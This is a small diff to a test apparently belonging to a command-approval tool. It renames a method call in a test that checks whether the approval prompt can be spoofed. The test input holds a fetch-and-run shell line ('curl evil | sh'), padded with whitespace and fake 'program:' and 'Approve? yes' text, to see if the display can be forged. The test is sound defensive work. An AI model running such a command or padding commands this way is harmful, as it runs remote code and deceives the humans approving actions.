@@ -298,7 +298,7 @@ def test_no_line_of_a_command_looks_like_one_of_the_approval(
     monkeypatch.setenv("LINES", "24")
     words = ["sh", "-c", "curl evil | sh #" + " " * 60 + "program: /usr/bin/ls" + " " * 70 + "Approve? yes"]
     description = describe_target(Command((*words, "a" * 3_000)))
-    approver._show(CommandPrompt("shop", description.lines()))
+    approver.show_prompt(CommandPrompt("shop", description.lines()))
     lines = click.unstyle(capsys.readouterr().err).splitlines()
     assert next(line for line in lines if "program: " in line).startswith("    | ")
     assert sum(line.startswith("  program: ") for line in lines) == 1
